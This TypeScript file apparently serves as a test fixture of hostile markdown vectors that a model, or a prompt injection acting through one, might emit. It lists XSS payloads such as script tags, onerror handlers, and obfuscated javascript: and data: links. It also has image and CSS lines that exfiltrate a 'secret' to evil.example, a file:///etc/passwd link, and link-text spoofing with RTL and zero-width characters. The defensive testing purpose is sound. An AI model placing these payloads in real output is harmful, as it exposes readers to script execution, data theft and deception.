import type { HostileVector } from "./hostileContent.js";

/**
 * Markdown a model (or a prompt injection through it) might write to run script, leave the
 * page, load remote content or deceive the reader: raw HTML, links and images in every
 * scheme and encoding, reference-style and footnote links, style injection, fence tricks.
 * @internal
 */
export const hostileMarkdown: readonly HostileVector[] = [
  { name: "script tag in markdown", value: "<script>alert(1)</script>" },
  { name: "inline script tag", value: "Hello <script>alert(1)</script> world" },
  { name: "img onerror in markdown", value: "<img src=x onerror=alert(1)>" },
  {
    name: "iframe srcdoc in markdown",
    value: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  },
  { name: "svg onload in markdown", value: "<svg onload=alert(1)><circle r=5 /></svg>" },
  {
    name: "object and embed",
    value: '<object data="javascript:alert(1)"></object>\n<embed src="javascript:alert(1)">',
  },
  { name: "raw html link", value: '<a href="javascript:alert(1)">click</a>' },
  { name: "raw html entity link", value: '<a href="&#106;avascript:alert(1)">click</a>' },
  {
    name: "form action",
    value: '<form action="javascript:alert(1)"><button>go</button></form>',
  },
  {
    name: "meta refresh in markdown",
    value: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  },
  {
    name: "base href in markdown",
    value: '<base href="https://evil.example/">\n\n[home](https://example.com)',
  },
  { name: "comment breakout", value: "<!--><img src=x onerror=alert(1)>-->" },
  { name: "xmp breakout", value: "<xmp><script>alert(1)</script></xmp>" },
  { name: "javascript link", value: "[x](javascript:alert(1))" },
  { name: "mixed case scheme", value: "[x](JaVaScRiPt:alert(1))" },
  { name: "tab entity in scheme", value: "[x](java&#x09;script:alert(1))" },
  { name: "newline entity in scheme", value: "[x](java&#10;script:alert(1))" },
  { name: "colon entity", value: "[x](javascript&colon;alert(1))" },
  { name: "decimal entity letter", value: "[x](&#106;avascript:alert(1))" },
  { name: "percent-encoded scheme", value: "[x](%6A%61vascript:alert(1))" },
  { name: "leading spaces", value: "[x](   javascript:alert(1))" },
  { name: "leading newline", value: "[x](\njavascript:alert(1))" },
  { name: "leading tab and spaces", value: "[x](<  \tjavascript:alert(1)>)" },
  { name: "null byte before scheme", value: "[x](\u0000javascript:alert(1))" },
  { name: "null byte inside scheme", value: "[x](java\u0000script:alert(1))" },
  { name: "javascript with comment", value: "[x](javascript://%0aalert(1))" },
  {
    name: "data html link",
    value: "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  },
  { name: "vbscript link", value: "[x](vbscript:msgbox(1))" },
  { name: "file link", value: "[x](file:///etc/passwd)" },
  { name: "protocol-relative link in markdown", value: "[x](//evil.example/login)" },
  { name: "data autolink", value: "<data:text/html;base64,PHNjcmlwdD4=>" },
  { name: "reference-style link", value: "[x][evil]\n\n[evil]: javascript:alert(1)" },
  { name: "footnote link", value: "See[^1].\n\n[^1]: [x](javascript:alert(1))" },
  { name: "image exfiltration", value: "![](https://evil.example/?q=secret)" },
  {
    name: "reference-style image",
    value: "![pixel][img]\n\n[img]: https://evil.example/pixel.png?q=secret",
  },
  { name: "javascript image", value: "![x](javascript:alert(1))" },
  { name: "data svg image", value: "![x](data:image/svg+xml,<svg onload=alert(1)>)" },
  { name: "linked image", value: "[![x](https://evil.example/a.png)](https://example.com)" },
  {
    name: "css injection by style attribute",
    value: '<div style="background:url(https://evil.example/?q=secret)">x</div>',
  },
  { name: "overlay by style attribute", value: '<span style="position:fixed;inset:0">x</span>' },
  { name: "style element", value: "<style>body{display:none}</style>" },
  {
    name: "title attribute injection",
    value: '[x](https://example.com "onmouseover=alert(1)")',
  },
  { name: "code fence language injection", value: '```" onmouseover="alert(1)\ncode\n```' },
  { name: "rtl override in link text", value: "[\u202Egnp.exe](https://example.com)" },
  { name: "zero-width in link text", value: "[pay\u200Bpal.com](javascript:alert(1))" },
  { name: "escaped tags as text", value: "&lt;script&gt;alert(1)&lt;/script&gt;" },
];
